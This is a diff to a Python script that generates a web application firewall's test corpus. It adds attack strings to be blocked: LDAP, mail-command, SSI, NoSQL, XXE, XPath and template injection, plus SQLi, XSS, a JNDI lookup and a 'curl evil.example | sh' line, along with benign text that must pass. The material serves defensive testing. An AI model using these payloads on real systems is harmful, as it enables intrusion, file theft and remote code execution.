@@ -137,6 +137,78 @@ c("scanner", A, "header:user-agent", "Mozilla/5.0 (compatible; Nmap Scripting En
 c("scanner", A, "header:user-agent", "Fuzz Faster U Fool v2.0.0 ffuf")
 c("scanner", A, "header:user-agent", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)")
 
+# ---------------- LDAP injection
+for v in ["*)(uid=*))(|(uid=*", "admin)(&)", "*)(|(password=*))", "admin*)((|userPassword=*)", "*)(objectClass=*",
+          "x)(|(cn=*)", "*()|&'", "admin)(!(&(1=0", "*)(&(objectClass=user)(uid=*", ")(cn=*))(|(cn=*", "*))%00"]:
+    c("ldap", A, "query", v, name="user")
+c("ldap", A, "form", "jdoe)(|(mail=*)", name="username")
+c("ldap", A, "json", "*)(uid=*))(|(uid=*", name="login")
+# ---------------- mail command injection (IMAP, SMTP, POP3)
+for v in ["INBOX\r\nV100 CAPABILITY", "x\r\nV101 FETCH 4791:* (BODY[HEADER])", "\"INBOX\" A003 SELECT \"Drafts\"",
+          "a@b.example\r\nRCPT TO:<victim@example.com>\r\nDATA", "x\r\nMAIL FROM:<spam@evil.example>",
+          "1\r\nUSER admin\r\nPASS secret", "1\r\nRETR 1", "test\r\nA004 LOGIN admin admin", "x\r\nEHLO evil.example",
+          "y\r\nA1 LIST \"\" *", "z\r\nDELE 1", "q\r\nA2 UID FETCH 1:* FLAGS"]:
+    c("mail", A, "query", v, name="mailbox")
+c("mail", A, "form", "news@example.com\r\nBcc: everyone@example.com\r\nRCPT TO:<x@example.com>", name="email")
+# ---------------- server-side / edge-side includes
+for v in ["<!--#exec cmd=\"ls\" -->", "<!--#include virtual=\"/etc/passwd\" -->", "<!--#echo var=\"DOCUMENT_ROOT\" -->",
+          "<!--#printenv -->", "<!--#config timefmt=\"%A\" --><!--#exec cmd=\"id\"-->", "<esi:include src=\"http://evil.example/\"/>",
+          "<!-- #exec cmd=\"cat /etc/passwd\" -->"]:
+    c("ssi", A, "query", v, name="comment")
+c("ssi", A, "form", "<!--#include file=\"../../etc/passwd\"-->", name="message")
+c("ssi", A, "header:x-comment", "<!--#exec cmd=\"id\"-->")
+# ---------------- NoSQL injection
+c("nosql", A, "query", "x", name="username[$ne]")
+c("nosql", A, "query", "", name="password[$gt]")
+c("nosql", A, "query", "^adm", name="user[$regex]")
+c("nosql", A, "query", "admin", name="user[$in][]")
+c("nosql", A, "query", "sleep(5000)", name="$where")
+c("nosql", A, "json_raw", "{\"username\": {\"$ne\": null}, \"password\": {\"$ne\": null}}")
+c("nosql", A, "json_raw", "{\"username\": \"admin\", \"password\": {\"$gt\": \"\"}}")
+c("nosql", A, "json_raw", "{\"$where\": \"this.password.length > 0\"}")
+c("nosql", A, "json_raw", "{\"filter\": {\"$or\": [{\"a\": 1}, {\"b\": {\"$exists\": true}}]}}")
+for v in ["{\"$gt\": \"\"}", "{\"$ne\": null}", "'; return true; var foo='", "' || this.password.match(/^a/) || '",
+          "1'; return 1==1; var x='1", "db.users.find()", "'; while(true){}; var x='"]:
+    c("nosql", A, "query", v, name="user")
+# ---------------- XML: XXE, entity expansion, XInclude, XML and XPath injection
+for v in ['<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
+          '<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "http://evil.example/evil.dtd"> %xxe;]><foo/>',
+          '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>',
+          '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
+          '<?xml version="1.0"?><!DOCTYPE data SYSTEM "http://evil.example/x.dtd"><data>1</data>',
+          '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><!DOCTYPE a [<!ENTITY b SYSTEM "file:///c:/windows/win.ini">]><a>&b;</a></soap:Body></soap:Envelope>']:
+    c("xxe", A, "xml_raw", v)
+c("xxe", A, "query", '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/hosts">]><x>&y;</x>', name="xml")
+c("xxe", A, "form", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd">%p;]><r/>', name="data")
+for v in ["</name><admin>true</admin><name>", "x</user><role>admin</role><user>y"]:
+    # In a value that the application pastes into an XML document (inside an XML body
+    # the injected tags are indistinguishable from the document's own).
+    c("xml", A, "query", v, name="name")
+    c("xml", A, "json", v, name="name")
+for v in ["' or name()='admin' or 'a'='b", "') or count(/*)=1 or ('a'='b", "1 or 1=1] | //*", "'] | //user/*[contains(*,'a')] | //*['",
+          "x' or string-length(name(/*))>0 or 'a'='b", "' or position()=1 or '", "admin' or starts-with(name(),'a') or 'x'='y"]:
+    c("xpath", A, "query", v, name="user")
+c("xpath", A, "xml", "' or count(//user)>0 or 'a'='b", name="username")
+# ---------------- more template engines
+for v in ["<%= 7*7 %>", "<%= system('id') %>", "<%= `id` %>", "{php}echo `id`;{/php}", "{system('id')}",
+          "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}", "@(7*7)", "${{7*7}}", "{{['id']|filter('system')}}",
+          "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x", "{$smarty.version}", "<%= File.open('/etc/passwd').read %>",
+          "#{7*7}", "[[${7*7}]]", "{{7*'7'}}", "<#assign x=\"freemarker.template.utility.Execute\"?new()>${x(\"id\")}",
+          "${self.module.cache.util.os.system(\"id\")}", "<% import os %>${os.popen('id').read()}"]:
+    c("ssti", A, "query", v, name="tpl")
+# ---------------- the usual attacks in placements parsers used to miss
+core = {"sqli": "1' OR '1'='1' -- ", "xss": "<img src=x onerror=alert(1)>", "rce": "; cat /etc/passwd",
+        "lfi": "../../../../etc/passwd", "ssti": "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
+        "java": "${jndi:ldap://evil.example/a}", "sqli2": "1 UNION SELECT password FROM users",
+        "xss2": "<script>alert(document.cookie)</script>", "rce2": "$(curl http://evil.example/x|sh)"}
+for fam, v in core.items():
+    fam = fam.rstrip("2")
+    for place in ["path_segment", "header:x-custom-header", "header:origin", "header:referer", "header:user-agent",
+                  "json_key", "xml", "soap", "xml_attr", "graphql", "base64_query", "base64_json", "base64_header", "jwt"]:
+        if place.startswith("header:") and any(ch in v for ch in "\r\n"):
+            continue
+        c(fam, A, place, v, name="id" if place != "graphql" else "q")
+
 # ================= benign real-world text, in every placement
 benign = [
     "O'Reilly", "Rock 'n' roll", "It's a \"great\" product -- really!",
@@ -184,6 +256,40 @@ for uri in ["/", "/static/app.3f2a1b.js", "/api/v1/users/42?fields=name,email&so
 c("benign", P, "json_raw", json.dumps({"user": {"name": "Anne-Marie O'Neil", "address": {"street": "12 Rue de l'Église", "city": "Montréal"}},
      "items": [{"sku": "A-1", "qty": 2, "note": "gift wrap, please; thanks!"}], "comment": "Loved it -- will buy again <3",
      "code": "if (x < 10 && y > 2) { print('ok'); }", "tags": ["summer", "sale"], "price": 19.99, "active": True}))
+benign2 = ["Smith (CEO) (retired)", "(a) first, (b) second", "f(x) = (x+1)*(x-1)", "Use the filter (cn=John Smith) in the directory",
+           "Please RCPT the parcel", "Hi team,\nplease see the list below\nThanks, Ann", "Top 10 tips\nfor better sleep",
+           "Price: $5-$10, or $ne-ish deals", "<!-- a comment in my HTML snippet -->", "a/b/c and x/y", "see [1] and [2]",
+           "Hello #{name}, welcome", "<%= link_to 'Home', root_path %>", "{{ user.name }} ordered {{ count }} items",
+           "He said 'hi' and not (really)", "Ruby: \"Hello #{name}\".upcase", "A4 paper list", "const re = /a|b/;",
+           "Dear John,\nTo: all staff\nSubject: party\nBest", "SELECT * FROM table is SQL", "Use $regex carefully in docs"]
+for i, v in enumerate(benign2):
+    for place in ["query", "json", "form"]:
+        c("benign", P, place, v, name="message")
+    if "\n" not in v:
+        c("benign", P, "xml", v, name="comment")
+        c("benign", P, "graphql", v, name="q")
+        c("benign", P, "base64_query", v, name="data")
+for v in benign[:40]:
+    if all(32 <= ord(ch) < 127 for ch in v):
+        c("benign", P, "header:x-comment", v)
+        c("benign", P, "base64_json", v, name="blob")
+    c("benign", P, "xml", v, name="note")
+    c("benign", P, "path_segment", v, name="slug")
+for v in ["iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
+          "q2Xk9Fz3Lw8Rb7TnVc1Yp0Qs", "MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo",
+          "eyJhbGciOiJSUzI1NiIsImtpZCI6IjEifQ.eyJzdWIiOiJ1c2VyLTQyIiwibmFtZSI6IkFubmUgTydOZWlsIiwiaWF0IjoxNzAwMDAwMDAwfQ.c2lnbmF0dXJlLWJ5dGVz",
+          "dGhlIHF1aWNrIGJyb3duIGZveCBqdW1wcyBvdmVyIHRoZSBsYXp5IGRvZw==", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"]:
+    c("benign", P, "query", v, name="token")
+    c("benign", P, "header:x-upload-token", v)
+for q in ["query { product(id: \"42\") { name price reviews(first: 5) { text } } }",
+          "mutation { addReview(product: \"42\", text: \"It's great -- 5/5, would buy again!\") { id } }",
+          "query Search($q: String!) { search(q: $q) { ... on Book { title } } }"]:
+    c("benign", P, "graphql_raw", q)
+c("benign", P, "xml_raw", '<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><m:GetPrice xmlns:m="https://www.example.org/stock"><m:Item>Apples &amp; Pears</m:Item><m:Note>O\'Neil said "5 &lt; 10"</m:Note></m:GetPrice></soap:Body></soap:Envelope>')
+for h, v in [("origin", "https://shop.example.com"), ("referer", "https://www.example.com/search?q=shoes&page=2"),
+             ("x-requested-with", "XMLHttpRequest"), ("x-correlation-id", "7f1c2e9a-4b8d-4c1e-9f3a-2b6d8e0a1c5f"),
+             ("x-client-version", "web/2024.12.1 (build 5521)")]:
+    c("benign", P, "header:" + h, v)
 c("benign", P, "file", "holiday photo (1).jpg", name="photo")
 c("benign", P, "file", "report_2024.pdf", name="doc")
 c("benign", P, "cookie", "GA1.2.1234567890.1700000000", name="_ga")
@@ -196,7 +302,8 @@ def s(v):
 out = ["# The WAF's table-driven corpus: attacks (expect = \"block\") and benign real-world text",
        "# (expect = \"pass\") in every placement. Generated by gen_corpus.py; read by tests/it/waf.rs.",
        "# place: query | form | json | json_key | json_raw | multipart | file | cookie | header:NAME |",
-       "#        path | uri | method | raw", ""]
+       "#        path | uri | method | raw | path_segment | xml | xml_attr | soap | xml_raw | graphql |",
+       "#        graphql_raw | base64_query | base64_json | base64_header | jwt", ""]
 for x in cases:
     out.append("[[case]]")
     for k in ["family", "expect", "place", "name", "value", "note"]:
